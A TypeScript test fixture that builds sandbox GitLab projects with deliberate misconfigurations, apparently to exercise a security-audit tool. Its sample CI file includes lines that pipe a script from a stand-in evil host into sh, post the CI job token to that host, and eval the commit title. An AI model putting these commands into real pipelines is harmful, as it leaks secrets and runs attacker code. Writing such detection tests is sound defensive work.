/** Small GitLabs in which as much as possible is wrong, one for every way to fail that excludes another. */

import {
  accessLevel,
  addPipeline,
  addProject,
  type ProjectRow,
  protectedBranchRow,
  type SandboxState,
} from "../../src/sandbox/index.ts";
import { smallWorld, start } from "../sandbox/support.ts";
import { unsafeSettings } from "./settings.ts";

const dayMs = 86_400_000;

export interface World {
  readonly name: string;
  readonly make: () => SandboxState;
}

type Change = (project: ProjectRow, state: SandboxState) => void;

function worldOf(change: Change): () => SandboxState {
  return () => {
    const state = smallWorld();
    const [project] = state.projects;
    if (!project) throw new Error("the small world has a project");
    for (const user of state.users) user.last_activity_on = "2026-09-20";
    change(project, state);
    return state;
  };
}

const old = (days: number) => new Date(start - days * dayMs).toISOString();

/** Ultimate, internal, with findings, and rules that are about other branches. */
const careless: Change = (project, state) => {
  const [group] = state.groups;
  if (group) {
    unsafeSettings(project, group);
    group.two_factor_grace_period = 0;
  }
  const [owner] = state.users;
  if (owner) owner.last_activity_on = null;
  Object.assign(project, {
    visibility: "internal",
    last_activity_at: old(400),
    protectedBranches: [
      protectedBranchRow({
        id: 15,
        name: "release",
        allow_force_push: true,
        push_access_levels: [accessLevel(30)],
      }),
    ],
    hooks: [
      {
        id: 1,
        url: "http://x",
        push_events: true,
        merge_requests_events: true,
        enable_ssl_verification: true,
      },
    ],
    jobTokenScope: { inbound_enabled: false, outbound_enabled: true, allowedProjectIds: [] },
    ciLint: { valid: false, errors: ["jobs:test config contains unknown keys: skript"], warnings: [] },
    vulnerabilities: [
      { id: 1, scanner: "packagehunter", state: "DETECTED", detectedAt: old(300) },
      { id: 2, scanner: "sast", state: "CONFIRMED", detectedAt: old(200) },
    ],
  });
  // A manifest without a lock file, and a binary file.
  project.files.set("main:Cargo.toml", '[dependencies]\nserde = "1"\n').set("main:tool.jar", "PK\0");
  project.branches.push({ name: "stale", commitId: "c".repeat(40), committed_date: old(200) });
  addPipeline(state, project.id, { id: 50 });
};

/** Premium, public, without any rule, about to be deleted, its repository lost. */
const abandoned: Change = (project) => {
  Object.assign(project, {
    licence: "premium",
    visibility: "public",
    protectedBranches: [],
    repositoryExists: false,
    markedForDeletionOn: "2026-10-01",
    builds_access_level: "private",
  });
};

/** Everything that a CI configuration should not hold. */
const carelessConfiguration = `---
deploy:
  stage: deploy
  environment: production
  timeout: 9 hours
  cache:
    paths:
    - node_modules
  id_tokens:
    VAULT:
      aud: https://evil.example.org
  script:
  - docker push x
  - docker run --privileged x
  - npm install
  - curl -k https://get.evil.example/x | sh
  - echo "$CI_JOB_TOKEN" > token.txt
  - curl -d "$CI_JOB_TOKEN" https://evil.example/x
  - deploy --token ${["glpat", "-", "x9Kq2mVb7RtY4wLsPz3N"].join("")}
  rules:
  - when: always
semgrep-sast:
  image: node:latest
  services:
  - docker:dind
  variables:
    CI_DEBUG_TRACE: 'true'
  allow_failure: true
  script:
  - eval "$CI_COMMIT_TITLE"
  artifacts:
    reports:
      sast: gl-sast-report.json
`;

/** A component and a file of another project, which has a newer version. */
function outdatedIncludes({ groupId, path_with_namespace: path }: ProjectRow, state: SandboxState) {
  const shared = addProject(state, { id: 4711, path: "shared-ci", name: "Shared CI", groupId });
  for (const [name, digit] of [
    ["1.0.0", "1"],
    ["2.0.0", "2"],
  ] as const)
    shared.tags.push({ name, commitId: digit.repeat(40), committed_date: old(100), message: "" });
  const at = "1".repeat(40);
  const source = path.replace(/[^/]+$/, "shared-ci");
  const blob = (file: string) => `https://gitlab.example.com/${source}/-/blob/${at}/${file}`;
  for (const file of ["templates/scan.yml", "a.yml"])
    shared.files.set(`${at}:${file}`, "scan:\n  script: scan\n");
  return [
    {
      type: "component",
      location: `gitlab.example.com/${source}/scan@1.0.0`,
      extra: {},
      blob: blob("templates/scan.yml"),
    },
    { type: "file", location: "a.yml", extra: { project: source, ref: "main" }, blob: blob("a.yml") },
  ] as const;
}

/** Archived, and nobody but its administrators belongs to it. */
const lonely: Change = (project, state) => {
  project.ciLint = {
    ...{ valid: true, errors: [], warnings: [], merged_yaml: carelessConfiguration },
    includes: outdatedIncludes(project, state).map((one) => ({
      ...{ ...one, context_project: project.path_with_namespace, context_sha: null },
    })),
  };
  project.files.set("main:.gitlab-ci.yml", "include: []\n");
  project.archived = true;
  project.members = project.members.filter(({ access_level }) => access_level === 40);
  project.protectedBranches = [
    protectedBranchRow({ id: 14, name: "main", push_access_levels: [accessLevel(30)] }),
  ];
};

/** What is wrong with a project, so that it can be wrong with another one too. */
export const wrongs: Readonly<Record<string, Change>> = { careless, abandoned, lonely };

export const worlds: readonly World[] = Object.entries(wrongs).map(([name, change]) => ({
  name: `a ${name} project`,
  make: worldOf(change),
}));
